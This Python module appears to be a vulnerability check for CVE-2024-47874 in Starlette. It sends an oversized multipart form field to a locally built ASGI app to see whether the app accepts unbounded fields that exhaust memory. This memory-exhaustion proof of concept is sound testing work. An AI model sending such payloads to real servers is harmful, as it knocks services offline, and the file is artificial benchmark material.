"""CVE-2024-47874 (starlette 0.39.2 -> 0.40.0): multipart fields without filename kept unbounded.

Starlette spools file parts to disk but keeps plain form fields (parts without ``filename``) in
memory, and before 0.40.0 without any limit: one huge field exhausts memory. 0.40.0 rejects a
part over ``max_part_size`` (1 MiB) with a 400. The check POSTs a 1 MiB + 64 KiB field to the
``Starlette`` app built in ``prepare()`` (driven as raw ASGI inside ``asyncio.run``, no sockets):
200 with the whole field before the fix, 400 after. A small form must still work, so a patch
that breaks form parsing altogether (e.g. the ``bytes`` vs ``bytearray`` part data) raises.
"""

from __future__ import annotations

import asyncio
from typing import Any

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import PlainTextResponse
from starlette.routing import Route

_BOUNDARY = "x7BOUNDARYx7"
_BIG = 1024 * 1024 + 64 * 1024


async def _upload(request: Request) -> PlainTextResponse:
    form = await request.form()
    return PlainTextResponse(str(len(str(form["field"]))))


def _form(value: bytes) -> bytes:
    return (
        f'--{_BOUNDARY}\r\nContent-Disposition: form-data; name="field"\r\n\r\n'.encode()
        + value
        + f"\r\n--{_BOUNDARY}--\r\n".encode()
    )


async def _post(app: Starlette, body: bytes) -> tuple[int, bytes]:
    chunks = [body[i : i + 65536] for i in range(0, len(body), 65536)]
    scope: dict[str, Any] = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": "/upload",
        "raw_path": b"/upload",
        "query_string": b"",
        "root_path": "",
        "client": ("127.0.0.1", 50000),
        "server": ("127.0.0.1", 80),
        "headers": [
            (b"content-type", f"multipart/form-data; boundary={_BOUNDARY}".encode()),
            (b"content-length", str(len(body)).encode()),
        ],
    }
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        if chunks:
            return {"type": "http.request", "body": chunks.pop(0), "more_body": bool(chunks)}
        return {"type": "http.disconnect"}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    await app(scope, receive, send)
    status = next(m["status"] for m in sent if m["type"] == "http.response.start")
    return status, b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")


def prepare() -> object:
    return Starlette(routes=[Route("/upload", _upload, methods=["POST"])])


def exploited(ctx: object) -> bool:
    assert isinstance(ctx, Starlette)
    if asyncio.run(_post(ctx, _form(b"hello"))) != (200, b"5"):
        raise RuntimeError("small multipart form not parsed")
    status, body = asyncio.run(_post(ctx, _form(b"a" * _BIG)))
    if status not in (200, 400):
        raise RuntimeError(f"unexpected status {status}: {body[:200]!r}")
    return (status, body) == (200, str(_BIG).encode())
